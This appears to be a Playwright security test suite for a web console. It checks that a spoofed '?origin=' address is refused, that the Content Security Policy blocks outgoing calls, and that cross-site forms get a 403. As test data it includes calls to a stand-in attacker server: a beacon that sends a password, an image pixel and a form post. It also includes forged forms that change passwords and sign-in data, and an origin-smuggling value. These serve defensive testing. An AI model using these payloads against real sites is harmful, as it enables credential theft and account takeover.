import type { Page, Request } from "@playwright/test";
import { signIn, signInCookie } from "../apiClient";
import { freePort } from "../freePort";
import { startServerProcess } from "../serverProcess";
import type { Account } from "./accounts";
import { startDemoServer } from "./demoServer";
import { expect, shellOf, test, full } from "./fixtures";
import { type EvilServer, startEvilServer } from "./origin/evilServer";
import { evilForms } from "./origin/forms";

const refusal = "This address is not allowed";

let evil: EvilServer;
test.beforeEach(async () => {
  evil = await startEvilServer();
});
test.afterEach(async () => {
  await evil.close();
});

type Place = { name: string; signedIn: boolean; address: (account: string, query: string) => string };

const places: Place[] = [
  { name: "the sign-in page", signedIn: false, address: (account, query) => `/${account}?${query}` },
  {
    name: "a screen, signed in",
    signedIn: true,
    address: (account, query) => `/${account}/settings/vehicles?${query}`,
  },
  {
    name: "the embedded shell",
    signedIn: true,
    address: (account, query) => `/embedded?account=${account}&${query}`,
  },
  {
    name: "a reset link",
    signedIn: false,
    address: (account, query) => `/${account}?hash=abcdefgh&${query}`,
  },
  {
    name: "a legacy link",
    signedIn: true,
    address: (account, query) => `/${account}#!/settings/vehicles?${query}`,
  },
];

// Each form on the sign-in page, and on every second of the others in turn.
for (const [place, { name, signedIn, address }] of places.entries()) {
  test(
    `?origin= on ${name} sends nothing to whom the server does not list, however it is written`,
    full,
    async ({ page, server, account, context }) => {
      test.setTimeout(240_000);
      const own = new URL(server.url).host;
      if (signedIn) await bringSession(page, server.url, account);
      for (const [index, form] of evilForms(evil.host, own).entries()) {
        if (place > 0 && index % 2 !== place % 2) continue;
        const calls = watchCalls(page);
        // The same address but for its fragment would not be loaded anew.
        await page.goto("about:blank");
        await page.goto(server.url + address(account.name, form));
        await expect(page.getByText(refusal).first(), form).toBeVisible();
        await expect(page.getByLabel("Password", { exact: true })).toHaveCount(0);
        expect([form, calls()]).toEqual([form, []]);
        expect([form, evil.seen]).toEqual([form, []]);
        expect(page.url()).not.toContain("origin=");
      }
      expect(JSON.stringify(await context.storageState())).not.toContain(evil.host);
    },
  );
}

test("?origin= of another server is refused on the sign-in page, and nothing is sent there", async ({
  page,
  server,
  account,
}) => {
  for (const form of [
    `origin=http://${evil.host}`,
    `origin=http://${evil.host}%23@${new URL(server.url).host}`,
  ]) {
    const calls = watchCalls(page);
    await page.goto(`${server.url}/${account.name}?${form}`);
    await expect(page.getByText(refusal).first(), form).toBeVisible();
    expect([form, calls(), evil.seen]).toEqual([form, [], []]);
  }
});

test(
  "what is no origin parameter, and the page's own origin, change nothing",
  full,
  async ({ page, server, account }) => {
    for (const query of [
      `Origin=http://${evil.host}`,
      `origin%5B%5D=http://${evil.host}`,
      `redirect=http://${evil.host}`,
      `origin=${server.url}`,
      `origin=${server.url}/`,
    ]) {
      await page.context().clearCookies();
      await page.goto(`${server.url}/${account.name}?${query}`);
      await signInOn(page, account.password);
      await shellOf(page).waitFor();
    }
    expect(evil.seen).toEqual([]);
  },
);

test.describe("should the page itself believe the address", () => {
  test("the policy stops what it would send, each time", async ({ browser, server, account: { name } }) => {
    // A page of its own: what it complains of is what is tested here.
    const page = await browser.newPage();
    // The page's own list is the client's gate: here it holds the other server, while the policy of the answer does not.
    await page.route(`${server.url}/**`, async (route) => {
      if (route.request().resourceType() !== "document") return route.continue();
      const response = await route.fetch();
      const html = (await response.text()).replace('"origins":[]', `"origins":["http://${evil.host}"]`);
      expect(html).toContain(evil.host);
      return route.fulfill({ response, body: html });
    });
    await page.addInitScript(() => {
      const violations: string[] = [];
      Object.assign(globalThis, { violations });
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        violations.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    await page.goto(`${server.url}/${name}?origin=http://${evil.host}`);
    await expect
      .poll(() => violationsOn(page))
      .toContain(`connect-src http://${evil.host}/gt/gt-api/helper/uiSettings?accountName=${name}`);
    await expect(page.getByText(refusal)).toHaveCount(0);
    await page.evaluate((host) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = `http://${host}/login`;
      document.body.append(form);
      form.submit();
      new Image().src = `http://${host}/pixel`;
      navigator.sendBeacon(`http://${host}/beacon`, "password");
    }, evil.host);
    await expect
      .poll(async () => (await violationsOn(page)).map((each) => each.split(" ")[0]))
      .toEqual(expect.arrayContaining(["connect-src", "form-action", "img-src"]));
    expect(evil.seen).toEqual([]);
    await page.close();
  });
});

test.describe("an origin that the server lists", () => {
  test(
    "is where the console signs in, reads and writes, and the page's own server learns nothing",
    full,
    async ({ browser }) => {
      test.setTimeout(180_000);
      const [pagePort, apiPort] = [await freePort(), await freePort()];
      const [pageUrl, apiUrl] = [`http://127.0.0.1:${pagePort}`, `http://127.0.0.1:${apiPort}`];
      const api = await startServerProcess({
        port: apiPort,
        password: "the other server's",
        environment: { CORS_ORIGINS: pageUrl },
        patience: 90_000,
      });
      const pages = await startDemoServer({ port: pagePort, environment: { API_ORIGINS: apiUrl } });
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        const toPages = watchCalls(page, pageUrl);
        await page.goto(`${pageUrl}/demo/settings/vehicle-requirements?origin=${apiUrl}`);
        expect(page.url()).not.toContain("origin=");
        await signInOn(page, api.password);
        await shellOf(page).waitFor();
        const client = await signIn(api.url, "admin", api.password);
        await client.post("/gt/gt-api/types", { name: "Over there" });
        await expect(page.getByText("Over there")).toBeVisible();
        expect(toPages()).toEqual([]);
      } finally {
        await context.close();
        await pages.kill();
        await api.kill();
      }
    },
  );
});

test("a form that another origin sends by itself does nothing", async ({ browser, server, api, account }) => {
  // A page of its own: that it visits other servers is no complaint here.
  const page = await browser.newPage();
  await bringSession(page, server.url, account);
  const target = `${server.url}/gt/gt-api`;
  const fields = (values: Record<string, string>) =>
    Object.entries(values)
      .map(([name, value]) => `<input name="${name}" value='${value}'>`)
      .join("");
  const forms = [
    ["auth/changePassword", { password: account.password, password_new: "planted-by-another" }],
    ["auth/login", { account: account.name, login: "dispatcher", password: account.password }],
    ["users/change_language", { lang: "ru" }],
    ["types", { '{"name":"Planted","x":"': '"}' }],
  ] as const;
  const before = await api.get("/gt/gt-api/users/current");
  for (const [call, values] of forms)
    for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      const body = `<form method="post" enctype="${type}" action="${target}/${call}">${fields(values)}</form>
        <script>document.forms[0].submit()</script>`;
      const other = await startEvilServer(`<!doctype html>${body}`);
      const answered = page.waitForResponse((response) => response.url() === `${target}/${call}`);
      await page.goto(`http://${other.host}/`);
      expect([call, type, (await answered).status()]).toEqual([call, type, 403]);
      await other.close();
    }
  // Neither does an image whose address signs out.
  const other = await startEvilServer(`<!doctype html><img src="${target}/auth/logout">`);
  const asked = page.waitForRequest((request) => request.url().endsWith("/logout"));
  await page.goto(`http://${other.host}/`);
  await asked;
  await other.close();
  await page.goto(`${server.url}/${account.name}/settings/vehicle-requirements`);
  await shellOf(page).waitFor();
  await expect(page.locator("html")).toHaveAttribute("lang", "en");
  expect((await api.get("/gt/gt-api/types?search=Planted")).text).not.toContain("Planted");
  expect((await api.get("/gt/gt-api/users/current")).json()).toEqual(before.json());
  await page.close();
});

/** What the page asks the API of its own server from now on; everything else that it asks but files of the build. */
function watchCalls(page: Page, from = ""): () => string[] {
  const calls: string[] = [];
  const hear = (request: Request) => {
    const { pathname, href } = new URL(request.url());
    if (/^\/(gt|ui-api)\//.test(pathname) && href.startsWith(from)) calls.push(`${request.method()} ${href}`);
  };
  page.on("request", hear);
  return () => {
    page.off("request", hear);
    return calls;
  };
}

function violationsOn(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);
}

async function signInOn(page: Page, password: string): Promise<void> {
  await page.getByRole("textbox", { name: "Login" }).fill("admin");
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
}

async function bringSession(page: Page, url: string, { name, password }: Account): Promise<void> {
  const cookies = (await signInCookie(url, "admin", password, name)).split("; ").map((cookie) => {
    const [called = "", ...value] = cookie.split("=");
    return { name: called, value: value.join("="), url };
  });
  await page.context().addCookies(cookies);
}
